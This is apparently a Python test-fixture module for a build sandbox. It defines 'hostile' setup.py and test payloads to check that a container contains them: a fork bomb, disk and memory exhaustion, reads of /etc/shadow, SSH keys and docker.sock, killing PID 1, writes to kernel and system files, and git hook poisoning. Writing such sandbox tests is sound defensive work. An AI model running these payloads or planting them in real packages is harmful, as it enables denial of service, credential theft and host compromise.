"""Hostile projects (T29): what a setup script or a test does in the container that builds it.

Each is the good project with a setup.py or a test of its own. What a project finds that it should not, it raises.
"""

from tests.images.hostile.archives import GOOD

_BUILD = b'[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n'
_END = "\nfrom setuptools import setup\nsetup(name='good', version='1', py_modules=['good'])\n"
# Without its installation the project's tests fail, so that a recipe which leaves it out makes no image.
_INSTALLED = b"from importlib.metadata import version\n\n\ndef test_installed():\n    assert version('good') == '1'\n"
# How a record may end: what the setup script or the test does decides, or the build's own way of handling it.
EXECUTABLE, FAILED, EITHER = "executable", "failed", "executable or failed"


def _setup(script: str) -> dict[str, bytes]:
    return {
        **{name: data for name, data in GOOD.items() if name != "pyproject.toml"},
        "pyproject.toml": _BUILD,
        "setup.py": (script + _END).encode(),
        "test_installed.py": _INSTALLED,
    }


def _test(script: str) -> dict[str, bytes]:
    return {**GOOD, "test_hostile.py": script.encode()}


_FORKS = """
import os, time
while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
"""
_STAYS = """
import os, signal, time
for number in range(20):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for name in ("SIGTERM", "SIGHUP", "SIGINT"):
                signal.signal(getattr(signal, name), signal.SIG_IGN)
            for descriptor in range(3):
                os.close(descriptor)
            time.sleep(100000)
        os._exit(0)
"""
# At most 3 GB, so that a machine whose containers have no bound of their own lives on.
_FILLS = """
import os
piece = b"x" * (1 << 20)
for place in ("/testbed", "/tmp", "/home/worldline", "/var/tmp", "/dev/shm"):
    try:
        with open(place + "/filler", "wb") as handle:
            for _ in range(600):
                handle.write(piece)
    except OSError:
        pass
raise SystemExit("full")
"""
_HOARDS = """
hoard = []
while True:
    hoard.append(bytearray(b"x" * (64 << 20)))
"""
_SHOUTS = """
import os
line = b"\\x1b]0;x\\x07" + b"y" * (1 << 20) + b"\\n"
for _ in range(1024):
    os.write(1, line)
    os.write(2, b"\\x1b[31mred\\n")
raise SystemExit("said enough")
"""
_READS = """
import glob, os
found = [repr(dict(os.environ))]
places = ["/etc/shadow", "/root/.netrc", "/root/.ssh/*", "/proc/1/environ", "/proc/1/root/*", "/proc/*/environ", "/run/*",
          "/run/secrets/*", "/var/run/docker.sock", "/host/*", "/mnt/*", "/.dockerenv", "/proc/mounts", "/home/*/.*"]
for place in places:
    for name in glob.glob(place):
        try:
            found.append(name + open(name, errors="replace").read(10000))
        except OSError:
            pass
raise SystemExit("\\n".join(found)[-5000:])
"""
_KILLS = """
import os, signal
for number in (9, 15, 19):
    for pid in (os.getppid(), 1, -1):
        try:
            os.kill(pid, number)
        except OSError:
            pass
"""
_WRITES = """
import ctypes, os
done = []
libc = ctypes.CDLL(None, use_errno=True)
places = ["/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/sys/vm/drop_caches", "/sys/kernel/uevent_helper",
          "/sys/fs/cgroup/release_agent", "/proc/1/oom_score_adj", "/etc/passwd", "/etc/ld.so.preload", "/usr/bin/git",
          "/.worldline/supervisor", "/run/worldline/pip.conf", "/dev/mem", "/dev/sda", "/proc/1/mem"]
for place in places:
    try:
        with open(place, "r+b") as handle:
            handle.write(b"1")
        done.append(place)
    except OSError:
        pass
calls = {
    "mount": lambda: libc.mount(b"none", b"/mnt", b"tmpfs", 0, None),
    "unshare": lambda: libc.unshare(0x10000000),
    "setuid": lambda: libc.setuid(0),
    "chroot": lambda: libc.chroot(b"/tmp"),
    "reboot": lambda: libc.reboot(0x1234567),
}
done += [name for name, call in calls.items() if call() == 0]
if done:
    raise SystemExit("could: " + ", ".join(done))
"""
_POISONS = """
import os
home = os.path.expanduser("~")
open(home + "/.gitconfig", "w").write("[core]\\nfsmonitor = touch /testbed/ran\\nhooksPath = /testbed/hooks\\n")
os.makedirs("/testbed/hooks", exist_ok=True)
for hook in ("pre-commit", "post-commit", "reference-transaction"):
    path = "/testbed/hooks/" + hook
    open(path, "w").write("#!/bin/sh\\nsleep 100000\\n")
    os.chmod(path, 0o755)
"""
_TALKS = """
import socket, time

import pytest


@pytest.mark.parametrize("address", [("1.1.1.1", 443), ("169.254.169.254", 80), ("172.17.0.1", 22), ("10.0.0.1", 80)])
def test_nothing_answers(address):
    began = time.monotonic()
    with pytest.raises(OSError):
        socket.create_connection(address, timeout=5)
    assert time.monotonic() - began < 1


def test_no_name_is_found():
    with pytest.raises(OSError):
        socket.getaddrinfo("example.org", 443)
"""
_LOOKS = """
import glob, os


def test_nothing_of_the_host_is_seen():
    texts = [repr(dict(os.environ))]
    for place in ("/run/**", "/proc/[0-9]*/environ", "/root/**", "/home/**", "/mnt/**"):
        for name in glob.glob(place, recursive=True):
            try:
                texts.append(open(name, errors="replace").read(100000))
            except OSError:
                pass
    assert not any("CANARY" in text or "pip.conf" in text for text in texts)
"""
_WAITS = "import time\\n\\n\\ndef test_waits():\\n    time.sleep(100000)\\n".replace("\\n", "\n")
_TEST_FORKS = f"def test_forks():\n{''.join(f'    {line}' + chr(10) for line in _FORKS.strip().splitlines())}"
_TEST_SHOUTS = "import os\n\n\ndef test_shouts():\n    while True:\n        os.write(1, b'y' * 1000000)\n"

# Name, the project's files, how its record ends.
PROJECTS: dict[str, tuple[dict[str, bytes], str]] = {
    "setup that forks without end": (_setup(_FORKS), FAILED),
    "setup that leaves processes behind": (_setup(_STAYS), EXECUTABLE),
    "setup that sleeps for ever": (_setup("import time\ntime.sleep(100000)\n"), FAILED),
    "setup that fills the disk": (_setup(_FILLS), FAILED),
    "setup that takes all memory": (_setup(_HOARDS), FAILED),
    "setup that prints a gigabyte": (_setup(_SHOUTS), FAILED),
    "setup that reads the host": (_setup(_READS), FAILED),
    "setup that kills its parents": (_setup(_KILLS), EITHER),
    "setup that writes to the kernel": (_setup(_WRITES), EXECUTABLE),
    "setup that leaves hooks": (_setup(_POISONS), EITHER),
    "test that opens sockets": (_test(_TALKS), EXECUTABLE),
    "test that looks for the host": (_test(_LOOKS), EXECUTABLE),
    "test that sleeps for ever": (_test(_WAITS), EITHER),
    "test that forks without end": (_test(_TEST_FORKS), EITHER),
    "test that prints without end": (_test(_TEST_SHOUTS), EITHER),
}
